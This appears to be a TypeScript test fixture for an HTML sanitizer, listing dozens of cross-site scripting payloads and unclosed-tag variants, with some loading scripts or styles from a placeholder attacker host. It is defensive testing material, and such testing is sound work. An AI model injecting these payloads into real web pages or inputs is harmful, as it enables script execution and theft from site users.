/**
 * HTML with active content in forms that simple filters miss: nested and broken markup, foreign content, and mutations that
 * only a real parser sees. Nothing of it may be active after sanitizing; what text stays is not specified.
 */

/** Each can stand among others: what follows it is not part of it. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://attacker.example/x.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://files.example/a.png"onerror="alert(1)">',
  '<img/src="https://files.example/a.png"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<p onclick=alert(1) onmouseover="alert(1)">text</p>',
  '<a href="https://files.example/" onclick="alert(1)">text</a>',
  '<a href="javascript&colon;alert(1)">text</a>',
  '<a href="java&#x0A;script:alert(1)">text</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">text</a>',
  '<a href="data:text/html,<script>alert(1)</script>">text</a>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>text</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">text</math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>',
  '<style>@import "https://attacker.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">text</p>',
  '<object data="https://attacker.example/x.swf"></object>',
  '<embed src="https://attacker.example/x.swf">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">text</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>text</details>',
  '<video><source onerror="alert(1)"></video>',
  '<video src="https://files.example/a.mp4" poster="javascript:alert(1)" onplay="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<base href="https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p id="x" name="y" class="z">text</p>',
  '<b><i><u>text</b></i></u>',
];

/** Each is the end of what is sent: a parser may take everything after it as part of it. */
export const unclosedHtml: readonly string[] = [
  '<img src=x onerror=alert(1) //',
  '<script>alert(1)',
  '<!-- <img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)>',
  '<iframe src="https://attacker.example/',
  '<a href="https://files.example/" onclick="alert(1)',
  '<plaintext><img src=x onerror=alert(1)>',
];
